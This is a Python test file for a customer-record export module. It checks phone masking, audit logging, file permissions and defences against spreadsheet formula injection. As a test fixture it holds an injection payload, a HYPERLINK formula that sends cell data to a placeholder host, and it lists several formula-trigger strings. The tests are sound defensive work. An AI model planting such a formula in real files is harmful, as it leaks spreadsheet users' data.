"""Records written to files: masked, and with nothing that a spreadsheet would run."""

import csv
import stat
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import select
from sqlalchemy.exc import SQLAlchemyError

from data.errors import BadValueError, DataError
from data.export_files import plain_text, write_rows
from data.exporting import Export
from data.importing import write_error_workbook
from data.migrations import migrate
from data.store.database import open_database, sqlite_url
from data.store.schema import AUDIT
from data.store.store import Store
from sync.audit.workbook import write_workbook
from sync.copies.export import export_to
from tests.stores import SetClock

PHONE, MASKED = "13812345678", "138****5678"
EVIL = '=HYPERLINK("http://x/?"&A1)'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    engine = open_database(sqlite_url(tmp_path / "store.db"))
    migrate(engine)
    opened = Store(engine, SetClock())
    with opened.write("test", "records") as writing:
        writing.put("branch", {"id": "B1", "name": "塔山供电所", "phone": "0429-1"})
        writing.put("feeder", {"id": "F1", "number": "616", "name": "塔山线", "substation": "塔山", "branch": "B1"})
        writing.put("customer", {"id": "2", "name": EVIL, "phone": PHONE, "feeder": "F1", "contract_kva": -5.5})
        writing.put("customer", {"id": "10", "name": "朱一", "address": "@1号", "sensitive": True})
    yield opened
    engine.dispose()


def read(path: Path) -> list[list[str]]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.reader(file))
    return [[str(cell) for cell in row] for row in CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()]


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
@pytest.mark.parametrize("clear", [False, True])
def test_phones_are_masked_unless_they_are_asked_for(store: Store, tmp_path: Path, name: str, *, clear: bool) -> None:
    path = tmp_path / name
    assert export_to(store, Export("customers", clear=clear), path, "os:test") == 2
    header, first, second = read(path)
    assert header[5] == ("phone" if clear else "phone_masked")
    assert [first[0], second[0]] == ["10", "2"], "by id, and an id stays text"
    assert second[5] == (PHONE if clear else MASKED)
    assert (PHONE.encode() in path.read_bytes()) == (clear and name == "out.csv")
    assert float(second[6]) == -5.5, "a number stays one"
    with store.read() as connection:
        acts = connection.execute(select(AUDIT.c.act, AUDIT.c.actor, AUDIT.c.about)).all()
    said = f"2 customers, phones {'clear' if clear else 'masked'}"
    assert ("export_clear" if clear else "export", "os:test", said) in acts
    if sys.platform != "win32":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_nobody_has_an_export_that_is_not_on_record(store: Store, tmp_path: Path) -> None:
    with store.write("test", "a trail that takes nothing") as writing:
        writing.connection.exec_driver_sql(
            "CREATE TRIGGER full BEFORE INSERT ON audit BEGIN SELECT RAISE(ABORT, 'no room'); END"
        )
    with pytest.raises(SQLAlchemyError, match="no room"):
        export_to(store, Export("customers", clear=True), tmp_path / "out.csv", "os:test")
    assert not (tmp_path / "out.csv").exists()


def test_no_text_becomes_a_formula(store: Store, tmp_path: Path) -> None:
    export_to(store, Export("customers"), tmp_path / "out.csv", "os:test")
    assert [row[1:3] for row in read(tmp_path / "out.csv")[1:]] == [["朱一", "'@1号"], [f"'{EVIL}", ""]]
    export_to(store, Export("customers"), tmp_path / "out.xlsx", "os:test")
    assert read(tmp_path / "out.xlsx")[2][1] == EVIL, "a workbook says itself that it is a text"
    assert b"<f>" not in (tmp_path / "out.xlsx").read_bytes()


@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2", "@SUM(A1)", "\tx", "＝1"])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert plain_text(text) == "'" + text


def test_an_export_of_some_branches_has_their_customers_alone(store: Store, tmp_path: Path) -> None:
    export_to(store, Export("customers", ["", "branch:B1"]), tmp_path / "out.csv", "os:test")
    assert [row[0] for row in read(tmp_path / "out.csv")[1:]] == ["2"]


WRITERS: dict[str, Callable[[Path], object]] = {
    "records": lambda path: write_rows(path, ["id"], [["1"]]),
    "rejected rows": lambda path: write_error_workbook(path, []),
    "audit": lambda path: write_workbook(path, []),
}


@pytest.mark.parametrize("write", WRITERS.values(), ids=WRITERS.keys())
def test_a_file_is_its_owners_alone_and_whole_or_not_there(tmp_path: Path, write: Callable[[Path], object]) -> None:
    (tmp_path / "folder.xlsx").mkdir()
    for wrong in ("folder.xlsx", "nowhere/out.xlsx"):
        with pytest.raises(DataError, match=wrong):
            write(tmp_path / wrong)
    (tmp_path / "out.xlsx").write_text("before")
    (tmp_path / "out.xlsx").chmod(0o644)
    write(tmp_path / "out.xlsx")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["folder.xlsx", "out.xlsx"]
    assert sys.platform == "win32" or stat.S_IMODE((tmp_path / "out.xlsx").stat().st_mode) == 0o600
    CalamineWorkbook.from_path(tmp_path / "out.xlsx")


def test_a_file_of_another_kind_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BadValueError, match=r"\.xlsx or \.csv"):
        write_rows(tmp_path / "out.txt", ["id"], [])


def test_other_kinds_are_exported_as_an_import_takes_them(store: Store, tmp_path: Path) -> None:
    export_to(store, Export("branches"), tmp_path / "out.csv", "os:test")
    assert read(tmp_path / "out.csv") == [
        ["id", "name", "parent_id", "kind", "phone", "postcode"],
        ["B1", "塔山供电所", "", "", "0429-1", ""],
    ]
